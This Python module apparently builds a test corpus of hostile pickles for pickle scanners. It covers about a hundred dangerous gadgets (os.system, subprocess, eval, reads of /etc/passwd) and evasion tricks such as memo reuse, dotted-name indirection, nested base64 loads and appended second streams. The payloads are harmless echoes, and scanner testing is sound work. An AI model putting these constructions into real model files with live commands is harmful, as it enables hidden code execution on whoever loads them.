"""Hostile pickles, assembled opcode by opcode: one or more for every way that is known to get past a scanner.

Nothing here is ever loaded. Payloads are harmless texts; what matters is how they are reached. The techniques are those of
published advisories on picklescan, fickling and modelscan, and of arXiv 2508.19774.
"""

import base64
import struct
from typing import Iterator, NamedTuple

WORD = "echo tagship"


class Hostile(NamedTuple):
    name: str
    family: str
    data: bytes


def text(value: str) -> bytes:
    """BINUNICODE."""
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def short(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    encoded = value.encode()
    return b"\x8c" + bytes([len(encoded)]) + encoded


def blob(value: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(value)) + value


def named(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    """STACK_GLOBAL."""
    return short(module) + short(name) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    """REDUCE of a function with arguments."""
    return function + b"(" + b"".join(arguments) + b"tR"


def pickled(body: bytes, protocol: int = 4) -> bytes:
    return (bytes([0x80, protocol]) if protocol >= 2 else b"") + body + b"."


# What a list of dangerous modules tends to lack, with arguments as its caller would give them.
GADGETS = [
    ("builtins", "eval", "1+1"), ("builtins", "exec", "pass"), ("builtins", "compile", "1"), ("builtins", "open", "/x"),
    ("builtins", "__import__", "os"), ("__builtin__", "eval", "1+1"), ("os", "system", WORD), ("posix", "system", WORD),
    ("nt", "system", WORD), ("subprocess", "Popen", WORD), ("subprocess", "getoutput", WORD), ("pty", "spawn", WORD),
    ("runpy", "run_path", "/x"), ("runpy", "run_module", "x"), ("pkgutil", "resolve_name", "os:system"),
    ("importlib", "import_module", "os"), ("pip", "main", "install"), ("pip._internal", "main", "install"),
    ("code", "interact", "x"), ("timeit", "timeit", "1"), ("cProfile", "run", "1"), ("profile", "run", "1"),
    ("pdb", "run", "1"), ("bdb", "Bdb", "1"), ("trace", "Trace", "1"), ("doctest", "debug_script", "1"),
    ("ctypes", "CDLL", "/x.so"), ("ctypes.util", "find_library", "c"), ("_posixsubprocess", "fork_exec", "x"),
    ("multiprocessing.util", "spawnv_passfds", "/x"), ("asyncio", "create_subprocess_shell", WORD),
    ("concurrent.futures", "ProcessPoolExecutor", "1"), ("uuid", "_get_command_stdout", "echo"),
    ("imaplib", "IMAP4_stream", WORD), ("_pyrepl.pager", "pipe_pager", "x"), ("pydoc", "pipepager", "x"),
    ("_osx_support", "_read_output", WORD), ("_aix_support", "_read_cmd_output", WORD),
    ("distutils.spawn", "spawn", "x"), ("distutils.file_util", "write_file", "/x"), ("logging", "FileHandler", "/x"),
    ("logging.config", "dictConfig", "x"), ("urllib.request", "urlopen", "http://127.0.0.1"),
    ("http.client", "HTTPConnection", "127.0.0.1"), ("socket", "create_connection", "x"), ("ftplib", "FTP", "x"),
    ("smtplib", "SMTP", "127.0.0.1"), ("webbrowser", "open", "http://127.0.0.1"), ("shutil", "rmtree", "/x"),
    ("pathlib", "Path.write_text", "/x"), ("tempfile", "mktemp", "x"), ("linecache", "getlines", "/etc/passwd"),
    ("fileinput", "input", "/etc/passwd"), ("zipimport", "zipimporter", "/x.zip"), ("site", "addsitedir", "/x"),
    ("atexit", "register", "x"), ("signal", "signal", "x"), ("gc", "get_objects", "x"), ("types", "CodeType", "x"),
    ("types", "FunctionType", "x"), ("marshal", "loads", "x"), ("pickle", "loads", "x"), ("_pickle", "loads", "x"),
    ("shelve", "open", "/x"), ("dbm", "open", "/x"), ("sqlite3", "connect", "/x"), ("operator", "attrgetter", "system"),
    ("operator", "methodcaller", "system"), ("functools", "reduce", "x"), ("builtins", "getattr", "x"),
    ("builtins", "map", "x"), ("_interpreters", "run_string", "x"), ("test.support.script_helper", "assert_python_ok", "x"),
    ("lib2to3.pgen2.pgen", "ParserGenerator", "/etc/passwd"), ("idlelib.pyshell", "ModifiedInterpreter", "x"),
    ("torch.serialization", "load", "/x.pt"), ("torch.utils.cpp_extension", "load_inline", "x"),
    ("torch.hub", "load", "x"), ("torch._inductor.codecache", "compile_file", "x"),
    ("torch.utils.collect_env", "run", WORD), ("torch.jit.unsupported_tensor_ops", "execWrapper", "1"),
    ("numpy", "load", "/x.npy"), ("numpy.testing._private.utils", "runstring", "1"), ("numpy.f2py.crackfortran", "myeval", "1"),
    ("numpy.distutils.exec_command", "_exec_command", WORD), ("joblib", "load", "/x"), ("pandas", "read_pickle", "/x"),
    ("pandas.core.computation.eval", "eval", "1"), ("sklearn.datasets", "load_files", "/x"),
    ("scipy.io", "loadmat", "/x"), ("transformers", "pipeline", "x"), ("keras.utils", "get_file", "x"),
    ("tensorflow", "py_function", "x"), ("cloudpickle.cloudpickle", "_make_function", "x"), ("dill._dill", "_create_code", "x"),
    ("requests.api", "get", "http://127.0.0.1"), ("aiohttp.client", "request", "x"), ("httplib", "HTTPSConnection", "x"),
    ("commands", "getstatusoutput", WORD), ("acme_models", "Classifier", "x"),
]


def gadgets() -> Iterator[Hostile]:
    for at, (module, name, argument) in enumerate(GADGETS):
        make, protocol = ((named, 0), (named, 2), (stacked, 4))[at % 3]
        yield Hostile(f"{module}.{name}", "gadget", pickled(call(make(module, name), text(argument)), protocol))


def opcodes() -> Iterator[Hostile]:
    system = named("posix", "system")
    yield Hostile("reduce-0", "opcode", pickled(b"cposix\nsystem\n(S'echo'\ntR", 0))
    yield Hostile("inst", "opcode", pickled(b"(S'echo'\niposix\nsystem\n", 0))
    yield Hostile("obj", "opcode", pickled(b"(" + system + text(WORD) + b"o", 1))
    yield Hostile("newobj", "opcode", pickled(named("subprocess", "Popen") + b"(" + text(WORD) + b"t\x81", 2))
    yield Hostile("newobj-ex", "opcode", pickled(named("subprocess", "Popen") + b"(" + text(WORD) + b"t}\x92", 4))
    yield Hostile("import-only", "opcode", pickled(named("acme_side_effects", "anything"), 2))
    state = b"}" + text("__setstate__") + system + b"s"
    yield Hostile("build", "opcode", pickled(call(named("argparse", "Namespace")) + state + b"b" + text(WORD) + b"b", 2))
    yield Hostile("extension", "opcode", pickled(
        call(named("copyreg", "add_extension"), text("posix"), text("system"), b"K\x01") + b"0\x82\x01" + b"(" + text(WORD) + b"tR", 2))
    yield Hostile("persistent-id", "opcode", pickled(text("posix") + b"Q", 2))
    yield Hostile("factory", "opcode", pickled(call(named("collections", "defaultdict"), system) + text(WORD) + b"Ns", 2))
    yield Hostile("escaped", "opcode", pickled(b"\x8c\x05posixV\\u0073ystem\n\x93(" + text(WORD) + b"tR", 4))
    yield Hostile("python-2-names", "opcode", pickled(call(named("__builtin__", "execfile"), text("/x")), 2))


def memo() -> Iterator[Hostile]:
    call_it = b"(" + text(WORD) + b"tR"
    yield Hostile("names-from-memo", "memo", pickled(short("posix") + b"q\x000" + short("system") + b"q\x010h\x00h\x01\x93" + call_it))
    yield Hostile("memoize", "memo", pickled(short("system") + b"\x940" + short("posix") + b"\x94h\x00\x93" + call_it))
    yield Hostile("overwritten", "memo", pickled(short("math") + b"q\x000" + short("posix") + b"q\x000h\x00" + short("system") + b"\x93" + call_it))
    yield Hostile("far-index", "memo", pickled(short("posix") + b"r\xff\x00\x00\x000" + b"j\xff\x00\x00\x00" + short("system") + b"\x93" + call_it))
    yield Hostile("memoize-after-pop", "memo", pickled(
        short("collections") + b"\x94" + short("posix") + b"\x9400" + b"h\x01" + short("system") + b"\x93" + call_it))
    yield Hostile("function-from-memo", "memo", pickled(stacked("posix", "system") + b"\x940N0h\x00" + call_it))
    yield Hostile("computed-name", "memo", pickled(
        short("posix") + call(stacked("_codecs", "encode"), short("system"), short("latin1")) + b"\x93" + call_it))
    yield Hostile("names-after-dup", "memo", pickled(short("timeit") + b"2\x93" + call_it))


def indirect() -> Iterator[Hostile]:
    system = stacked("posix", "system")
    yield Hostile("dotted", "indirection", pickled(call(stacked("pathlib", "os.system"), text(WORD))))
    yield Hostile("dotted-logging", "indirection", pickled(call(stacked("logging", "os.system"), text(WORD))))
    yield Hostile("dotted-numpy", "indirection", pickled(call(stacked("numpy", "ndarray.tofile"), text("/x"))))
    yield Hostile("parent-module", "indirection", pickled(
        call(stacked("asyncio.unix_events", "_UnixSubprocessTransport._start"), text(WORD))))
    yield Hostile("getattr", "indirection", pickled(
        call(call(stacked("builtins", "getattr"), call(stacked("builtins", "__import__"), text("os")), text("system")), text(WORD))))
    yield Hostile("partial", "indirection", pickled(call(call(stacked("functools", "partial"), system), text(WORD))))
    yield Hostile("map", "indirection", pickled(
        call(stacked("builtins", "list"), call(stacked("builtins", "map"), system, b"(" + text(WORD) + b"l"))))
    yield Hostile("resolve", "indirection", pickled(call(call(stacked("pkgutil", "resolve_name"), text("posix:system")), text(WORD))))
    yield Hostile("attrgetter", "indirection", pickled(
        call(call(stacked("operator", "attrgetter"), text("system")), call(stacked("importlib", "import_module"), text("os")))))
    yield Hostile("dropped-obj", "indirection", pickled(b"(" + named("posix", "system") + text(WORD) + b"o0" + b"}", 2))
    yield Hostile("dropped-reduce", "indirection", pickled(call(system, text(WORD)) + b"0]"))
    yield Hostile("dropped-by-mark", "indirection", pickled(b"(" + call(system, text(WORD)) + b"1N"))
    yield Hostile("in-a-list", "indirection", pickled(b"](K\x01" + call(system, text(WORD)) + b"K\x02e"))
    yield Hostile("as-a-key", "indirection", pickled(b"}" + call(system, text(WORD)) + b"Ns"))


def nested() -> Iterator[Hostile]:
    inner = pickled(call(stacked("posix", "system"), text(WORD)))
    yield Hostile("loads", "nesting", pickled(call(stacked("pickle", "loads"), blob(inner)), 4))
    yield Hostile("loads-decoded", "nesting", pickled(
        call(stacked("pickle", "loads"), call(stacked("base64", "b64decode"), text(base64.b64encode(inner).decode())))))
    yield Hostile("joblib-loads", "nesting", pickled(call(stacked("joblib.numpy_pickle_compat", "read_zfile"), blob(inner))))
    yield Hostile("torch-loads", "nesting", pickled(call(stacked("torch.storage", "_load_from_bytes"), blob(inner))))


def streams() -> Iterator[Hostile]:
    bad = pickled(call(stacked("posix", "system"), text(WORD)))
    fine = pickled(b"]K\x01a", 2)
    yield Hostile("second-stream", "stream", fine + bad)
    yield Hostile("second-after-zeros", "stream", fine + bytes(64) + bad)
    yield Hostile("second-after-noise", "stream", fine + b"\xff\xfe\xfdnoise\n" * 4 + bad)
    yield Hostile("no-stop", "stream", bad[:-1])
    yield Hostile("bad-opcode-after", "stream", bad[:-1] + b"\xff\xff\xff")
    yield Hostile("short-read-after", "stream", bad[:-1] + b"X\xff\xff\x00\x00abc")
    yield Hostile("empty-stack-after", "stream", bad[:-1] + b"000000.")
    yield Hostile("late-protocol", "stream", pickled(b"N0\x80\x04" + call(stacked("posix", "system"), text(WORD)), 2))
    body = call(stacked("posix", "system"), text(WORD)) + b"."
    yield Hostile("frame-past-end", "stream", b"\x80\x04\x95" + struct.pack("<Q", len(body) + 9) + body)
    yield Hostile("frame-straddle", "stream", b"\x80\x04\x95" + struct.pack("<Q", 5) + body)
    yield Hostile("many-no-ops", "stream", pickled(b"N0" * 100_000 + call(stacked("posix", "system"), text(WORD))))
    yield Hostile("long-text-before", "stream", pickled(text("a" * (1 << 20)) + b"0" + call(stacked("posix", "system"), text(WORD))))
    yield Hostile("deep-marks", "stream", pickled(b"(" * 50_000 + call(named("posix", "system"), text(WORD)), 2))


def corpus() -> list[Hostile]:
    """Every hostile pickle. The names are unique within a family."""
    return [*gadgets(), *opcodes(), *memo(), *indirect(), *nested(), *streams()]
